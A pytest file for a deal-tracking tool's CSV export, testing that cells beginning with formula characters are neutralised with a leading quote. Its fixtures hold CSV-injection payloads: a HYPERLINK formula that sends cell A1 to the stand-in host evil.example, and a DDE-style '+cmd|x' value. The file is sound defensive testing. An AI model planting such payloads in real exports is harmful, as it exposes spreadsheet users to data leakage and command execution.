"""CSV export: header, UTF-8, round trip through the CSV reader, formula injection neutralised."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pyarrow as pa
import pytest
from sqlalchemy.orm import Session

from dealgraph.analytics.eventlog import CASE_SCHEMA, EVENT_SCHEMA, workspace_event_log
from dealgraph.core.enums import Channel
from dealgraph.errors import InvalidInput
from dealgraph.io.eventlog_csv import read_eventlog_csv
from dealgraph.io.export_csv import neutralise_formula, write_csv
from dealgraph.services import deals, interactions
from dealgraph.services.exports import export_file
from tests.factories import at, make_deal, make_interaction, make_workspace

EVIL_OWNER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        ("Zoë", "Zoë"),
    ],
)
def test_neutralise_formula_prefixes_only_formula_starts(text: str, expected: str) -> None:
    assert neutralise_formula(text) == expected


def test_write_csv_writes_header_nulls_as_empty_and_iso_times() -> None:
    table = pa.table(
        {
            "case": ["1", "2"],
            "activity": ["qualify", None],
            "timestamp": pa.array([datetime(2026, 1, 5, 9, 30), None], pa.timestamp("us")),
            "value": [1.5, -2.0],
        }
    )
    out = io.StringIO(newline="")
    assert write_csv(table.to_batches(max_chunksize=1), out, schema=table.schema) == 2
    # numbers are not text: a negative value stays a number
    assert out.getvalue() == (
        "case,activity,timestamp,value\r\n1,qualify,2026-01-05T09:30:00,1.5\r\n2,,,-2.0\r\n"
    )


def _evil_workspace(session: Session) -> int:
    make_workspace(session)
    deal = deals.create_deal(
        session,
        deal=make_deal(title="=HYPERLINK(1)", owner=EVIL_OWNER, segment="@enterprise"),
        account_name="Evil Corp",
    )
    assert deal.id is not None
    interactions.log_interaction(
        session,
        deal_id=deal.id,
        interaction=make_interaction(occurred_at=at(3), channel=Channel.PHONE, seller="+cmd|x"),
    )
    return deal.id


def test_workspace_events_round_trip_through_the_csv_reader(
    session: Session, tmp_path: Path
) -> None:
    make_workspace(session)
    events, _ = workspace_event_log(session)
    out = tmp_path / "events.csv"
    summary = export_file(session, out=out)
    assert summary.format == "csv"
    assert summary.counts == {"events": events.num_rows}
    back = read_eventlog_csv(
        out, channel="channel", resource="resource", outcome="outcome", encoding="utf-8"
    )
    assert back.num_rows == events.num_rows > 5
    for column in ("case", "activity", "timestamp", "resource"):
        assert back[column].to_pylist() == events[column].to_pylist(), column
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header == ",".join(EVENT_SCHEMA.names)


def test_formula_cells_from_a_deal_are_neutralised_in_events_and_cases(
    session: Session, tmp_path: Path
) -> None:
    deal_id = _evil_workspace(session)
    events_csv, cases_csv = tmp_path / "events.csv", tmp_path / "cases.csv"
    export_file(session, out=events_csv)
    export_file(session, out=cases_csv, table="cases")
    with events_csv.open(encoding="utf-8", newline="") as stream:
        rows = [r for r in csv.DictReader(stream) if r["case"] == str(deal_id)]
    assert {r["resource"] for r in rows} == {"'" + EVIL_OWNER, "'+cmd|x"}
    with cases_csv.open(encoding="utf-8", newline="") as stream:
        reader = csv.DictReader(stream)
        assert reader.fieldnames == CASE_SCHEMA.names
        case = next(r for r in reader if r["case"] == str(deal_id))
    assert case["seller"] == "'" + EVIL_OWNER
    assert case["segment"] == "'@enterprise"
    assert case["value"] == "120000.0"
    # no cell of either file starts with a formula character
    for path in (events_csv, cases_csv):
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_one_deal_only(session: Session, tmp_path: Path) -> None:
    ws = make_workspace(session)
    out = tmp_path / "one.csv"
    export_file(session, out=out, deal_id=ws.deals[1])
    with out.open(encoding="utf-8", newline="") as stream:
        cases = {row["case"] for row in csv.DictReader(stream)}
    assert cases == {str(ws.deals[1])}


def test_case_table_only_for_csv_and_parquet_and_nothing_is_written(
    session: Session, tmp_path: Path
) -> None:
    make_workspace(session)
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(InvalidInput, match="only csv and parquet export the case table"):
        export_file(session, out=folder / "log.xes", table="cases")
    assert list(folder.iterdir()) == []
